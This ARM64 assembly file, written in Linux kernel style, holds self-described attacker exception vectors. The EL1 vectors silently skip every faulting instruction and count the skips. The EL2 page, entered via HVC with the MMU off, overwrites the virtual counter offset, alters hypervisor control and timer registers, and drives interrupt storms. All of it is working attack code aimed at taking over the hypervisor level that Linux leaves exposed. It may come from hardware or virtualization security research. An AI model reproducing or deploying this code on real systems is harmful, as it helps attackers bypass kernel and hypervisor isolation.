/* SPDX-License-Identifier: GPL-2.0-only */
/* Exception vectors of the attacker's own: at EL1, to survive what is refused; at EL2, to own what Linux left there. */
#include <linux/linkage.h>

	.text

/* Each vector leaves out the instruction that failed, and counts. */
.macro skip_vector
	.align	7
	stp	x0, x1, [sp, #-16]!
	adrp	x0, attack_skipped
	add	x0, x0, :lo12:attack_skipped
	ldr	x1, [x0]
	add	x1, x1, #1
	str	x1, [x0]
	mrs	x0, elr_el1
	add	x0, x0, #4
	msr	elr_el1, x0
	ldp	x0, x1, [sp], #16
	eret
.endm

	.align	11
SYM_CODE_START(attack_vectors)
	.rept	16
	skip_vector
	.endr
SYM_CODE_END(attack_vectors)

/*
 * A page that is copied and runs at EL2 with the MMU off. HVC with x1 = physical address of one of the functions; x2-x4 are its arguments.
 */
	.align	11
SYM_CODE_START(attack_el2)
	.rept	5
	.align	7
	eret
	.endr
	.align	7			/* 0x280: an interrupt while this page runs. Not acknowledged; comes back at once, up to the end x3 */
	add	x4, x4, #1
	mrs	x9, cntpct_el0
	cmp	x9, x3
	b.lo	1f
	mrs	x9, spsr_el2
	orr	x9, x9, #0x3c0
	msr	spsr_el2, x9
1:	eret
	.align	7
	eret
	.align	7
	eret
	.align	7			/* 0x400: HVC */
	br	x1
	.rept	7
	.align	7
	eret
	.endr

SYM_INNER_LABEL(attack_el2_offset, SYM_L_GLOBAL)	/* CNTVOFF = x2; returns what it was */
	mrs	x0, cntvoff_el2
	msr	cntvoff_el2, x2
	isb
	eret

SYM_INNER_LABEL(attack_el2_spin, SYM_L_GLOBAL)		/* until the counter says x3; returns the level */
1:	isb
	mrs	x9, cntpct_el0
	cmp	x9, x3
	b.lo	1b
	mrs	x0, CurrentEL
	eret

SYM_INNER_LABEL(attack_el2_storm, SYM_L_GLOBAL)		/* the same with HCR bits x2, CNTHCTL 0 and interrupts open; returns their number */
	mrs	x10, elr_el2
	mrs	x11, spsr_el2
	mrs	x12, hcr_el2
	mrs	x13, cnthctl_el2
	mov	x4, #0
	orr	x2, x12, x2
	msr	hcr_el2, x2
	msr	cnthctl_el2, xzr
	isb
	msr	daifclr, #0xf
1:	isb
	mrs	x9, cntpct_el0
	cmp	x9, x3
	b.lo	1b
	msr	daifset, #0xf
	msr	cnthctl_el2, x13
	msr	hcr_el2, x12
	msr	elr_el2, x10
	msr	spsr_el2, x11
	isb
	mov	x0, x4
	eret
SYM_INNER_LABEL(attack_el2_end, SYM_L_GLOBAL)
SYM_CODE_END(attack_el2)

	.bss
	.align	3
	.globl	attack_skipped
attack_skipped:
	.quad	0
